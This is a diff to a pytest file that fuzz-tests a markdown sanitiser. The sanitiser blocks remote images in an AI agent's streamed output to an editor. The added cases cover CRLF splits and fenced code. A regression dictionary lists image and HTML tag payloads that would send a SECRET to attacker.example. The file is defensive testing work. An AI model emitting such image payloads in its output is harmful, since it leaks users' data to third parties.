@@ -14,7 +14,14 @@ from pathlib import Path
 import pytest
 from acp import text_block
 from editor_client import EditorClient, acp_agent, text_of
-from markdown_fuzz import ALLOWED_HOST, document, leaks, pieces, remote_loads
+from markdown_fuzz import (
+    ALLOWED_HOST,
+    document,
+    leaks,
+    leaks_at_every_cut,
+    pieces,
+    remote_loads,
+)
 
 from loopwright.acp.inert import MarkdownGuard
 from loopwright.testing import FakeModelServer, Reply
@@ -34,16 +41,44 @@ def test_no_image_off_the_list_survives_the_fuzz() -> None:
 
 
 def test_text_with_no_image_or_tag_is_passed_as_written() -> None:
+    """As written, but for CRLF and a lone CR, which come as LF (one line ending to a renderer)."""
     guard = MarkdownGuard((ALLOWED_HOST,))
     changed, seed, deadline = [], 0, time.monotonic() + SECONDS / 3
     while time.monotonic() < deadline:
         text = document(pieces(seed), seed).replace("!", "").replace("<", "")
+        expected = text.replace("\r\n", "\n").replace("\r", "\n")
         stream = guard.stream()
         streamed = stream.feed(text) + stream.end()
-        if guard.text(text) != text or streamed != text:
+        if guard.text(text) != expected or streamed != expected:
             changed.append((seed, text))
         seed += 1
     assert changed == []
+
+
+def test_no_cut_of_a_fenced_case_into_two_deltas_leaks() -> None:
+    """Fences, CRs and LFs split at every character: between a CR and its LF, inside a fence's
+    run, inside a tag a blank line splits."""
+    found, cases, seed, deadline = [], 0, 0, time.monotonic() + SECONDS
+    while time.monotonic() < deadline:
+        text = document(pieces(seed), seed)
+        if ("```" in text or "~~~" in text) and "\r" in text and len(text) < 400:
+            cases += 1
+            case = leaks_at_every_cut(text)
+            if case is not None:
+                found.append((seed, text, *case))
+        seed += 1
+    assert cases > 5, "too few cases in the time given"
+    assert found == []
+
+
+def test_a_crlf_split_between_its_cr_and_lf_is_one_line_ending() -> None:
+    text = "```\r\ncode\r\n```\r\n<pre>\r\n<img\r\n\r\nsrc='https://x.example/a'>\r\n\r\nend\r\n"
+    whole = MarkdownGuard((ALLOWED_HOST,)).text(text)
+    assert whole == "```\ncode\n```\n<pre>\n(image from x.example not loaded)\n\nend\n"
+    for cut in range(1, len(text)):
+        stream = MarkdownGuard((ALLOWED_HOST,)).stream()
+        deltas = [text[:cut], "", text[cut:]]  # an empty delta between changes nothing
+        assert "".join(stream.feed(delta) for delta in deltas) + stream.end() == whole, cut
 
 
 # what the fuzz found, each as the editor got it from `loopwright acp`
@@ -67,6 +102,10 @@ FOUND = {
     "an image ended on the next line after CRLF": (
         "```\r\ncode\r\n```\r\n![a](https://attacker.example/c?d=SECRET\r\n)\r\n"),
     # an image not ended in code is none: the tag inside it is one
+    # the fence's closing line ended in CRLF, so it stayed open: the `<pre>` after it opened no
+    # HTML block, where a tag runs on past a blank line, and the tag's rest past one passed
+    "a tag over a blank line after a fence closed by CRLF": (
+        "```\r\ncode\r\n```\r\n<pre>\r\n<img\r\n\r\nsrc='https://attacker.example/p?d=SECRET'>\r\n"),
     "a tag in an unended image in code": (
         "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
         "src='https://attacker.example/e?d=SECRET'>\n"),
